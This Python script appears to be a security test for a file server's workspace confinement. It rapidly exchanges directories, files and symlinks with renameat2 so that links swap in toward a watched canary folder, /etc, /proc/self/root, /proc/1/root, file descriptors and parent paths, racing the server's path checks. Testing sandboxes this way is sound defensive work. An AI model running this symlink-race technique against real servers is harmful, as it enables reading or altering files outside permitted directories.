"""Runs in a context: exchanges directories, files and links of the workspace as fast as it can, for some seconds.

The links lead to what the server could reach and must not: FACTS has the folder of the host that is watched.
"""

import contextlib
import ctypes
import itertools
import os
import shutil
import sys
import time

EXCHANGE = 2
HERE = -100

libc = ctypes.CDLL(None, use_errno=True)


def exchange(first: str, second: str) -> None:
    """Exchanges two names in one step; that one is missing is no matter."""
    libc.renameat2(HERE, first.encode(), HERE, second.encode(), EXCHANGE)


def targets(canary: str) -> list[str]:
    """Where a link may lead: absolute and relative, and through descriptors of whoever follows it."""
    descriptors = [f"/proc/self/fd/{number}" for number in range(3, 60)]
    up = ["..", "../..", "../" * 12, "../" * 12 + canary[1:], "race/../../..", "../../home/user2"]
    roots = ["/", "/etc", "/proc", "/proc/self", "/proc/self/root", "/proc/1/root", "/proc/self/cwd", "/dev", "/tmp"]
    return [canary, canary, *up, *roots, f"/proc/self/root{canary}", *descriptors]


def remove(path: str) -> None:
    """Removes a link or a file, or the directory that a write made in its place."""
    try:
        os.unlink(path)
    except IsADirectoryError:
        shutil.rmtree(path, ignore_errors=True)
    except OSError:
        pass


def make(top: str) -> None:
    """Makes again what a request has deleted."""
    with contextlib.suppress(OSError):
        os.makedirs(f"{top}/d/sub")
    for path in f"{top}/d/canary", f"{top}/d/sub/canary", f"{top}/f":
        with contextlib.suppress(OSError), open(path, "x") as file:
            file.write("inside")


def race(top: str, canary: str, seconds: float) -> int:
    """Races until the time is over; returns how often it went round."""
    end = time.monotonic() + seconds
    rounds = 0
    for target in itertools.cycle(targets(canary)):
        if time.monotonic() >= end:
            return rounds
        for name in f"{top}/link", f"{top}/flink":
            remove(name)
        make(top)
        with contextlib.suppress(OSError):
            os.symlink(target, f"{top}/link")
        with contextlib.suppress(OSError):
            os.symlink(f"{canary}/canary", f"{top}/flink")
        for _ in range(20):
            exchange(f"{top}/d", f"{top}/link")
            exchange(f"{top}/f", f"{top}/flink")
            exchange(f"{top}/d/sub", f"{top}/link")
        rounds += 1
    return rounds


if __name__ == "__main__":
    print(race(sys.argv[1], sys.argv[2], float(sys.argv[3])) > 10)
